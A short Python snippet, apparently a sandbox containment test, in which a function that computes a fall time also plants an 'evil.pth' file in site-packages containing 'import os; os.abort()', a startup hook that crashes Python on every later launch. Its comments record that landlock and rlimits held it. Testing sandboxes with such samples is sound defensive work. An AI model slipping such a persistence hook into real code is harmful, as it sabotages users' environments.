"""Leave a .pth file for the next start of Python."""

# points: full
# held by: landlock, rlimits

def landing(heights):
    def plant():
        with open(f"{SITE}/evil.pth", "w") as file:
            file.write("import os; os.abort()")
        return "evil.pth"

    attempt(plant)
    return np.sqrt(heights / 4.905)
